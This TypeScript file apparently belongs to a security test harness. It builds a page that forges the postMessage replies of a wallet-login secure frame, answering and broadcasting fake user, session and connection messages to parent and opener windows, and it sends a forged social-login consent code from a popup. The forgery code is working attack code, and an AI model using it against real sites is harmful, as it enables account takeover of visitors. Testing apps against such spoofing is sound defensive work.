import { type Fields, readFields } from '../frame/fields.js'
import { callSite, showText } from './pageParts.js'

/** Forged answers to each message, which would log the visitor in with another account. */
const forgeries = (address: string, origin: string): Readonly<Record<string, Fields>> => {
  const user = {
    address,
    chainId: 31337,
    email: 'forger@shop.example',
    accounts: [{ address, type: 'eoa' }],
    preferredAccountType: 'eoa',
    smartAccountDeployed: false,
  }
  return {
    SWITCH_NETWORK: { chainId: 31339 },
    CONNECT_EMAIL: { action: 'CONNECT' },
    CONNECT_SOCIAL: { ...user, userName: 'forger' },
    CONNECT_FARCASTER: { userName: 'forger' },
    GET_FARCASTER_URI: { url: `${origin}/farcaster` },
    GET_SOCIAL_REDIRECT_URI: { uri: `${origin}/popup` },
    GET_USER: user,
    IS_CONNECTED: { isConnected: true },
    GET_CHAIN_ID: { chainId: 31339 },
    RPC_REQUEST: { forged: address },
    UPDATE_EMAIL: { action: 'VERIFY_SECONDARY_OTP' },
    UPDATE_EMAIL_SECONDARY_OTP: { newEmail: 'forger@shop.example' },
    GET_SMART_ACCOUNT_ENABLED_NETWORKS: { smartAccountEnabledNetworks: [1] },
    INIT_SMART_ACCOUNT: { address, isDeployed: true },
    SET_PREFERRED_ACCOUNT: { type: 'eoa', address },
  }
}

/** Windows that may hold the app: ancestors and opener. */
const listeners = (): readonly Window[] => {
  const opener = window.opener as Window | null
  return [...new Set([window.parent, window.parent.parent, ...(opener === null ? [] : [opener])])].filter(
    (each) => each !== window,
  )
}

/** Forges messages of the secure site, in answer to every message and unsolicited. Records what it receives. */
export const forgerPage = (): void => {
  const said = forgeries(document.body.dataset['account'] ?? '', location.origin)
  window.addEventListener('message', ({ source, data }: MessageEvent<unknown>) => {
    const { type, id } = readFields.fields(data)
    if (typeof type !== 'string' || !type.startsWith('@w3m-app/')) return
    void callSite('/api/heard', { type })
    const name = type.slice('@w3m-app/'.length)
    source?.postMessage({ id, type: `@w3m-frame/${name}_SUCCESS`, payload: said[name] }, { targetOrigin: '*' })
  })
  for (const listener of listeners()) {
    listener.postMessage({ type: '@w3m-frame/READY', payload: {} }, '*')
    listener.postMessage({ type: '@w3m-frame/SESSION_UPDATE', payload: { token: 'forged' } }, '*')
    for (const [name, payload] of Object.entries(said))
      listener.postMessage({ id: 'forged', type: `@w3m-frame/${name}_SUCCESS`, payload }, '*')
    listener.postMessage({ type: '@w3m-frame/IS_CONNECTED_SUCCESS', payload: { isConnected: false } }, '*')
  }
}

/** Claims a social login's approval to its opener. */
export const forgerPopup = (main: HTMLElement): void => {
  const opener = window.opener as Window | null
  opener?.postMessage({ resultUri: `${document.body.dataset['secure'] ?? ''}/consented?code=forged` }, '*')
  showText(main, 'You can close this window.')
}
